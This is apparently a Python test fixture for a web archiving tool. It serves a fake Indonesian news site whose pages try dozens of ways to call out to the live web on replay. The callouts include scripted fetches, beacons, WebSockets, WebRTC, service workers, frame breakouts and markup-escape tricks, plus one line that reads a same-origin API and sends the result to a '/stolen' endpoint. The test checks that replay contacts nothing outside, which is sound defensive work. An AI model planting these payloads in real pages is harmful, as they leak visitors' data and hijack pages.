"""A site whose pages try all that an archived page must not do, once they are replayed.

with Outside() as outside, HostileSite(outside) as site:
    crawl(site.url("/"))
    outside.forget()
    ...  # replay
    assert outside.heard() == []
"""

from __future__ import annotations

import socket
import threading
from contextlib import suppress
from typing import Self

from tests.servers.raw import RawServer, Step

STORY = "/2026/11/23/pasar-ikan-dibuka-lagi"
SECOND = "/2026/11/23/pasar-sayur-dibuka-lagi"
HEADLINE = "Pasar ikan dibuka lagi setelah direnovasi"
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000002000000020802000000fdd49a73"
    "0000001449444154789c63f8cfc0f09f81819181e13f030300150903fd9b4f6a2e0000000049454e44ae426082"
)
WORDS = "<p>Pedagang kembali menempati kios mereka di tepi pelabuhan, kata kepala pasar.</p>" * 9


class Outside:
    """The live web: a TCP and a UDP port that keep whatever reaches them, if only a connection."""

    def __init__(self) -> None:
        self._heard: list[str] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self.port: int = self._tcp.getsockname()[1]
        self.udp_port: int = self._udp.getsockname()[1]

    def __enter__(self) -> Self:
        for listen in (self._listen_tcp, self._listen_udp):
            threading.Thread(target=listen, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        with suppress(OSError):
            self._tcp.shutdown(socket.SHUT_RDWR)
        self._tcp.close()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as farewell:
            farewell.sendto(b"", ("127.0.0.1", self.udp_port))

    def heard(self) -> list[str]:
        """All that came, in order."""
        return list(self._heard)

    def forget(self) -> None:
        """What came so far was allowed."""
        self._heard.clear()

    def _listen_tcp(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._tcp.accept()
                connection.settimeout(0.5)
                with connection, suppress(OSError):
                    self._heard.append("connected")
                    self._heard.append(connection.recv(2000).decode("latin-1"))
                    connection.sendall(b"HTTP/1.1 503 Closed\r\nContent-Length: 0\r\n\r\n")

    def _listen_udp(self) -> None:
        while self._udp.recv(2000):
            self._heard.append("datagram")
        self._udp.close()


class HostileSite(RawServer):
    """Serves on a free port inside a `with` block."""

    def __init__(self, outside: Outside) -> None:
        super().__init__({})
        live = f"http://127.0.0.1:{outside.port}"
        story = _page(live, outside.udp_port)
        pages: dict[str, tuple[str, str | bytes]] = {
            "/": ("text/html", f"<title>Depan</title><a href='{STORY}'>{HEADLINE}</a>"
                  f"<a href='{SECOND}'>Pasar sayur dibuka lagi pekan ini</a>"),
            STORY: ("text/html; charset=utf-8", story),
            SECOND: ("text/html", f"<h1>Pasar sayur dibuka lagi</h1><article>{WORDS}</article>"),
            "/gaya.css": ("text/css", f"@import '{live}/import.css'; h1 {{ color: rgb(1, 2, 3) }}"
                          f" article {{ background: url({live}/latar.png) }}"),
            "/ikan.png": ("image/png", PIXEL),
            "/jahat.js": ("text/javascript", _script(live, outside.udp_port)),
            "/worker.js": ("text/javascript", f"fetch('{live}/worker')"),
        }  # fmt: skip
        self._scripts = {path: [_answer(*page)] for path, page in pages.items()}


def _answer(content_type: str, body: str | bytes) -> list[Step]:
    payload = body.encode() if isinstance(body, str) else body
    head = f"HTTP/1.1 200 OK\r\nContent-Type: {content_type}\r\nContent-Length: {len(payload)}\r\n"
    # Headers, too, could ask for more than a page shows; none of them may be replayed.
    link = "Link: <http://127.0.0.1:9/>; rel=preconnect\r\n"
    return [head.encode() + link.encode() + b"Set-Cookie: a=b\r\n\r\n" + payload]


def _page(live: str, udp_port: int) -> str:
    """A story whose markup alone calls out in many ways, and whose scripts do in many more."""
    return f"""<!doctype html><html><head><title>{HEADLINE}</title><meta charset="utf-8">
<link rel="preconnect" href="{live}"><link rel="dns-prefetch" href="{live}">
<link rel="prefetch" href="{live}/prefetch"><link rel="manifest" href="{live}/manifest">
<link rel="modulepreload" href="{live}/module.js"><link rel="icon" href="{live}/icon.png">
<link rel="stylesheet" href="/gaya.css"><link rel="stylesheet" href="{live}/live.css">
<style>@font-face {{ font-family: x; src: url({live}/font.woff2) }} body {{ font-family: x }}
  p {{ background: url("{live}/p.png") }}</style>
<script src="/jahat.js"></script><script>{_script(live, udp_port)}</script></head>
<body onload="fetch('{live}/onload')" background="{live}/background.png">
<article><h1>{HEADLINE}</h1><img id="ikan" src="/ikan.png" width="40" height="40">{WORDS}</article>
<noscript><p id="tanpa-skrip">Tanpa skrip</p></noscript>
<img src="{live}/img.png" onerror="fetch('{live}/onerror')"><img srcset="{live}/set.png 1x">
<picture><source srcset="{live}/source.png"><img src="/tidak-ada.png"></picture>
<video src="{live}/v.mp4" poster="{live}/poster.png" autoplay></video>
<audio src="{live}/a.mp3" autoplay></audio><iframe src="{live}/frame"></iframe>
<iframe srcdoc="<script>parent.parent.location='{live}/srcdoc'</script><img src='{live}/s.png'>">
</iframe><object data="{live}/object"></object><embed src="{live}/embed">
<svg><image href="{live}/svg.png"/><use href="{live}/use.svg#a"/></svg>
<form id="form" action="{live}/form" method="post"><button id="kirim">Kirim</button></form>
<a id="keluar" href="{live}/keluar" target="_top" ping="{live}/ping">Keluar</a>
<a id="jendela" href="{live}/jendela" target="_blank">Jendela</a>
<a id="skrip" href="javascript:fetch('{live}/javascript')">Skrip</a>
<img alt='x' title="</title><img src={live}/breakout.png>">
<![CDATA[<img src={live}/cdata.png>]]><math><mtext><img src={live}/math.png></mtext></math>
<table background="{live}/table.png"><td background={live}/td.png></table>
<input type=image src={live}/input.png></body></html>"""


def _script(live: str, udp_port: int) -> str:
    socket_url = live.replace("http", "ws")
    attempts = (
        "document.documentElement.dataset.ran = '1'",
        f"fetch('{live}/fetch')",
        f"fetch('{live}/opaque', {{mode: 'no-cors'}})",
        f"new Image().src = '{live}/image'",
        f"navigator.sendBeacon('{live}/beacon', 'x')",
        f"new WebSocket('{socket_url}/socket')",
        f"new EventSource('{live}/events')",
        f"window.open('{live}/open')",
        f"top.location = '{live}/top'",
        "parent.document.title = 'OWNED'",
        "top.document.body.innerHTML = 'OWNED'",
        "navigator.serviceWorker.register('/worker.js')",
        "navigator.serviceWorker.register('worker.js')",
        "new Worker('/worker.js')",
        "localStorage.setItem('a', 'b')",
        "document.cookie = 'a=b'",
        "indexedDB.open('a')",
        "fetch(new URL('/api/v1/search', document.referrer)).then(a => a.text())"
        f".then(t => fetch('{live}/stolen?' + t))",
        f"document.write('<img src={live}/written><iframe src={live}/framed></iframe>')",
        f"const c = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{udp_port}'}}]}});"
        " c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
        f"setTimeout(() => {{ location.href = '{live}/elsewhere' }}, 300)",
    )
    return "\n".join(f"try {{ {attempt} }} catch (e) {{}}" for attempt in attempts)
